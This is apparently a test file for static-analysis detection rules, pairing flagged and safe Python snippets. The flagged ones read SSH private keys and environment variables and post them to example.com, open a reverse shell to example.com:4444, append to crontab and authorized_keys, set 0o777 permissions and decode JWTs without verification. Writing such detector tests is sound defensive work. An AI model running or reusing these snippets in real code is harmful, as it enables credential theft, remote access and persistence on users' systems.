import os
import pty
import socket
import subprocess
import tempfile

import jwt
import requests


def send():
    with open("/home/user/.ssh/id_rsa") as f:
        key = f.read()
    # ruleid: python-data-leaves
    requests.post("https://example.com/in", data={"key": key})
    everything = dict(os.environ)
    # ruleid: python-data-leaves
    requests.post("https://example.com/in", json=everything)
    # ok: python-data-leaves
    requests.post("https://example.com/in", json={"answer": 42})
    token = os.environ["TOKEN"]
    # ok: python-data-leaves
    requests.post("https://example.com/in", headers={"Authorization": token}, json={})
    with open("notes.txt") as f:
        # ok: python-data-leaves
        requests.post("https://example.com/in", data=f.read())
    s = socket.create_connection(("example.com", 80))
    # ruleid: python-data-leaves
    s.sendall(subprocess.check_output(["id"]))


def shell():
    s = socket.socket()
    s.connect(("example.com", 4444))
    # ruleid: python-reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: python-reverse-shell
    pty.spawn("/bin/bash")
    # ruleid: python-reverse-shell
    subprocess.Popen(["sh"], stdin=s, stdout=s)
    # ok: python-reverse-shell
    pty.spawn("top")
    # ok: python-reverse-shell
    subprocess.Popen(["sort"], stdin=subprocess.PIPE)


def stay(line):
    # ruleid: python-persistence
    with open("/etc/crontab", "a") as f:
        f.write(line)
    home = "/root"
    # ruleid: python-persistence
    open(home + "/.ssh/authorized_keys", mode="a") if line else open(home + "/.bashrc", "a")
    # ok: python-persistence
    open("/etc/crontab", "r").read()
    # ok: python-persistence
    open("report.txt", "w").write(line)


def permit(path):
    # ruleid: python-open-permissions
    os.chmod(path, 0o777)
    # ok: python-open-permissions
    os.chmod(path, 0o755)
    # ruleid: python-temporary-name
    name = tempfile.mktemp()
    # ok: python-temporary-name
    handle = tempfile.mkstemp()
    return name, handle


def read(token, key):
    # ruleid: python-jwt-unverified
    a = jwt.decode(token, options={"verify_signature": False})
    # ok: python-jwt-unverified
    b = jwt.decode(token, key, algorithms=["HS256"])
    return a, b
